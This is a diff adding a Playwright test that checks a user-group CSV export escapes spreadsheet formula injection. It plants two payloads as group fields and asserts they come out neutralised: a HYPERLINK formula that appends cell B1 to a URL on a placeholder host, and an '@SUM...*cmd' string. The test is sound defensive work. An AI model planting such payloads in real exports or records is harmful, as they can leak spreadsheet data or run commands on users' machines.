@@ -1,3 +1,4 @@
+import { readFileSync } from 'node:fs';
 import type { Page } from 'playwright-core';
 import {
   describeInBrowser,
@@ -98,5 +99,25 @@ describeInBrowser('user groups in the browser', () => {
     const asset = await page.request.get(`${platform.url}/assets/gone-from-an-older-build.js`);
     expect(asset.status()).toBe(404);
     expect(asset.headers()['content-type']).not.toContain('text/html');
+  });
+  it('exports the list through the formula-safe CSV writer', async () => {
+    const admin = (await platform.api.login(ADMIN.email, ADMIN.password)).token;
+    const formula = '=HYPERLINK("http://x/"&B1,"a")';
+    const created = await platform.api.request('POST', '/api/usergroup', {
+      token: admin,
+      body: { name: formula, description: '@SUM(1+9)*cmd' },
+    });
+    expect(created.status).toBe(201);
+    await page.goto(`${platform.url}/dashboard/usergroup`);
+    await page.getByText(formula).first().waitFor();
+    const [download] = await Promise.all([
+      page.waitForEvent('download'),
+      page.getByRole('button', { name: '내보내기' }).click(),
+    ]);
+    const csv = readFileSync((await download.path())!, 'utf8');
+    expect(csv.startsWith('\uFEFF')).toBe(true);
+    expect(csv).toContain(`"'=HYPERLINK(""http://x/""&B1,""a"")"`);
+    expect(csv).toContain("'@SUM(1+9)*cmd");
+    expect(csv).not.toMatch(/(^|[,\n])"?[=@]/);
   });
 });
